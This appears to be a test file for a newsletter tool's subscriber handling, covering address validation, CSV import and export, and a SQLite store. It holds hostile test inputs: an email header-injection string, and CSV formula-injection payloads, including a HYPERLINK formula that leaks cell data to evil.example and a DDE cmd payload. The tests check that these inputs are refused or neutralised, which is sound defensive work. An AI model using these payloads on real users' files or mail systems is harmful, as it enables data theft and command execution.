import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { mailboxOf, normalizeAddress } from '../src/support/email-address.js';
import { parseSubscriberCsv } from '../src/subscribers/csv.js';
import { MIGRATIONS } from '../src/store/sqlite/migrations.js';
import { SqliteSubscriberStore } from '../src/store/sqlite/subscribers.js';
import type { SubscriberRecord } from '../src/subscribers/store.js';
import { bulletin } from './helpers/cli.js';
import { tempSite } from './helpers/site.js';

let dir: string;
beforeEach(() => (dir = mkdtempSync(join(tmpdir(), 'bulletin-subscribers-'))));
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const all = async (records: AsyncIterable<SubscriberRecord>) => {
  const out: SubscriberRecord[] = [];
  for await (const r of records) out.push(r);
  return out;
};

test.each([
  ['  Jane.Doe@Example.ORG ', 'jane.doe@example.org'],
  ['jane+news@example.org', 'jane+news@example.org'],
  ['user@bücher.example', 'user@xn--bcher-kva.example'],
  ['user@example.org.', 'user@example.org'],
])('normalizes %j to %s', (input, expected) => {
  expect(normalizeAddress(input)).toEqual({ ok: true, address: expected });
});

test.each([
  ['jane@example.org\r\nBcc: victim@example.org', 'line break'],
  ['"attacker@evil.example x"@internal.example', 'quotes'],
  ['Jane <jane@example.org>', 'name'],
  ['a@b@example.org', 'exactly one @'],
  ['jane@[127.0.0.1]', 'quotes, brackets'],
  ['jane@192.168.0.1', 'no IP'],
  ['jane(comment)@example.org', 'brackets'],
  ['jane@example', 'domain name'],
  ['jane..doe@example.org', 'characters before the @'],
  ['a@example.org,b@example.org', 'list'],
  ['', 'empty'],
])('refuses %j', (input, reason) => {
  const result = normalizeAddress(input);
  expect(result.ok).toBe(false);
  expect(!result.ok && result.reason).toContain(reason);
});

test('a CSV with bad rows reports every one with its line, and duplicates and case variants merge', () => {
  const parsed = parseSubscriberCsv(
    'Email,Name,Organisation\njane@example.org,Jane,NHS\nnot-an-address,Bad,\nJANE@example.org ,Jane Doe,NHS Leeds\n\n"x@y.org\nz",Broken,\nbob@example.org,,Council\n',
  );
  expect(parsed.problems).toEqual([
    { line: 3, message: '"not-an-address" must have exactly one @ with a name before it' },
    { line: 6, message: '"x@y.org\\nz" contains a line break or control character' },
  ]);
  expect(parsed.duplicates).toBe(1);
  expect(parsed.rows).toEqual([
    { email: 'jane@example.org', name: 'Jane Doe', attributes: { organisation: 'NHS Leeds' } },
    { email: 'bob@example.org', attributes: { organisation: 'Council' } },
  ]);
  expect(parseSubscriberCsv('name,address\nJane,jane@example.org\n').problems[0]).toMatchObject({
    line: 1,
    message: expect.stringContaining('no "email" column'),
  });
  expect(parseSubscriberCsv('email,name\n"unclosed,Jane\n').problems[0]!.message).toMatch(/not valid CSV/);
});

// What the store does on every engine is in store-contract.test.ts; this is SQLite's own file handling.
test('the SQLite store creates its folder, migrates on open, and keeps its data in WAL mode across a reopen', async () => {
  const path = join(dir, 'nested', 'bulletin.db');
  const store = new SqliteSubscriberStore(path);
  expect(store.schemaVersion).toBe(MIGRATIONS.length);
  await store.importSubscribers('weekly', [{ email: 'a@example.org' }, { email: 'b@example.org' }], {
    source: 'import:one.csv',
  });
  await store.setStatus('b@example.org', 'weekly', 'unsubscribed', { source: 'one-click' });
  await store.close();

  const reopened = new SqliteSubscriberStore(path);
  expect(reopened.schemaVersion).toBe(MIGRATIONS.length);
  expect((await all(reopened.subscribers())).map((r) => [r.email, r.status])).toEqual([
    ['a@example.org', 'subscribed'],
    ['b@example.org', 'unsubscribed'],
  ]);
  await reopened.close();
  const raw = new Database(path, { readonly: true });
  expect(raw.pragma('journal_mode', { simple: true })).toBe('wal');
  expect(raw.prepare('SELECT status, source FROM consent_log ORDER BY id').all()).toContainEqual({
    status: 'unsubscribed',
    source: 'one-click',
  });
  raw.close();
});

test('a database from a newer Bulletin is refused rather than damaged', () => {
  const path = join(dir, 'future.db');
  const raw = new Database(path);
  raw.pragma(`user_version = ${MIGRATIONS.length + 1}`);
  raw.close();
  expect(() => new SqliteSubscriberStore(path)).toThrow(/newer than this Bulletin knows/);
});

test('bulletin subscribers import, add, remove, list and export from the command line', () => {
  const site = tempSite();
  try {
    const csv = join(site.root, 'members.csv');
    writeFileSync(csv, 'email,name\nA@Example.org,Ann\nbroken,\nb@example.org,Bo\n');
    const bad = bulletin(['subscribers', 'import', csv, '--list', 'weekly', '--json'], site.root);
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain('members.csv:3: "broken" must have exactly one @');
    expect(JSON.parse(bad.stdout)).toMatchObject({ ok: false });
    expect(
      JSON.parse(bulletin(['subscribers', 'list', '--json'], site.root).stdout).lists[0].counts.subscribed,
    ).toBe(0);

    writeFileSync(csv, 'email,name\nA@Example.org,Ann\nb@example.org,Bo\n');
    expect(
      JSON.parse(bulletin(['subscribers', 'import', csv, '--list', 'weekly', '--json'], site.root).stdout),
    ).toMatchObject({ ok: true, added: 2 });
    expect(bulletin(['subscribers', 'import', csv, '--list', 'weekyl'], site.root)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('Did you mean "weekly"?'),
    });
    expect(
      bulletin(['subscribers', 'add', 'c@example.org', '--list', 'weekly', '--name', 'Cy'], site.root).status,
    ).toBe(0);
    expect(bulletin(['subscribers', 'add', 'bad address', '--list', 'weekly'], site.root).status).toBe(1);
    expect(bulletin(['subscribers', 'remove', 'a@example.org', '--list', 'weekly'], site.root).status).toBe(
      0,
    );
    expect(bulletin(['subscribers', 'import', csv, '--list', 'weekly'], site.root).stderr).toContain(
      '1 left unsubscribed',
    );
    const counts = JSON.parse(bulletin(['subscribers', 'list', '--json'], site.root).stdout).lists[0].counts;
    expect(counts).toMatchObject({ subscribed: 2, unsubscribed: 1 });
    const exported = bulletin(['subscribers', 'export', '--list', 'weekly'], site.root)
      .stdout.trim()
      .split('\n');
    expect(exported[0]).toBe('email,name,list,status,consent_at,consent_source,consent_evidence');
    expect(exported.slice(1).map((l) => l.split(',').slice(0, 4).join(','))).toEqual([
      'a@example.org,Ann,weekly,unsubscribed',
      'b@example.org,Bo,weekly,subscribed',
      'c@example.org,Cy,weekly,subscribed',
    ]);
    expect(exported[1]).toMatch(/,cli,$/);
  } finally {
    site.remove();
  }
}, 60_000);

test('export neutralises spreadsheet formulas (OWASP CSV injection), and importing the export gives the names back', async () => {
  const site = tempSite();
  try {
    const hostile: [string, string][] = [
      ['f1@example.org', '=HYPERLINK("https://evil.example/?"&A1,"Click for your prize")'],
      ['f2@example.org', "+1+cmd|' /C calc'!A0"],
      ['f3@example.org', '-2+3'],
      ['f4@example.org', '@SUM(1,2)'],
      ['f5@example.org', '＝1+1'],
      ['f6@example.org', "O'Brien, Ann"],
      ['-news@example.org', 'Addresses too'],
    ];
    for (const [email, name] of hostile)
      expect(
        bulletin(['subscribers', 'add', '--list', 'weekly', '--name', name, '--', email], site.root).status,
      ).toBe(0);
    const exported = bulletin(['subscribers', 'export', '--list', 'weekly'], site.root);
    expect(exported.status).toBe(0);
    const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
    const names = new Map(rows.map((r) => [r.email, r.name]));
    // What a spreadsheet stores as text: a leading apostrophe, which Excel and LibreOffice hide.
    for (const [email, name] of hostile.slice(0, 5))
      expect([email, names.get(email)]).toEqual([email, `'${name}`]);
    expect(names.get("'-news@example.org")).toBe('Addresses too');
    expect(names.get('f6@example.org')).toBe("O'Brien, Ann");
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);

    const file = join(site.root, 'exported.csv');
    writeFileSync(file, exported.stdout);
    expect(bulletin(['subscribers', 'import', file, '--list', 'leaders'], site.root).status).toBe(0);
    const store = new SqliteSubscriberStore(join(site.root, '.bulletin', 'bulletin.db'));
    try {
      const imported = new Map((await all(store.subscribers('leaders'))).map((r) => [r.email, r.name]));
      expect(Object.fromEntries(imported)).toEqual(Object.fromEntries(hostile));
    } finally {
      await store.close();
    }
  } finally {
    site.remove();
  }
}, 60_000);

// The store counts confirmations by this (store-contract.test.ts checks the two agree).
test('mailboxOf merges Gmail dots, googlemail.com and +tags; other domains keep their dots', () => {
  expect(mailboxOf('v.ic.tim+news@googlemail.com')).toBe('victim@gmail.com');
  expect(mailboxOf('v.ictim@example.org')).toBe('v.ictim@example.org');
  expect(mailboxOf('victim+a@example.org')).toBe('victim@example.org');
});
